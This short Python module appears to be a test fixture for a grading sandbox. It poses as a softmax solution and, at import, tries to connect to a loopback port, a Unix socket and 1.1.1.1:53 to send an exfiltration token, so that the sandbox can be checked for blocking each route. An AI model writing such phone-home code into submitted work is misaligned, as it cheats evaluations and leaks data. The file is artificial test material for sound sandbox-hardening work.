# target: softmax
"""Cheat: phone home at import (to send the inputs out or fetch answers): a TCP listener on the
grading host's loopback, a Unix socket on the host's filesystem, and the internet. The grading
sandbox must let none of them through. The module is otherwise the reference."""
import socket as _socket

_TOKEN = "__TOKEN__"


def _attempt(family, address):
    try:
        with _socket.socket(family, _socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(address)
            connection.sendall(f"gallery-exfiltrate-{_TOKEN}".encode())
    except OSError:
        pass


_attempt(_socket.AF_INET, ("127.0.0.1", __PORT__))
_attempt(_socket.AF_UNIX, "__UNIX_SOCKET__")
_attempt(_socket.AF_INET, ("1.1.1.1", 53))
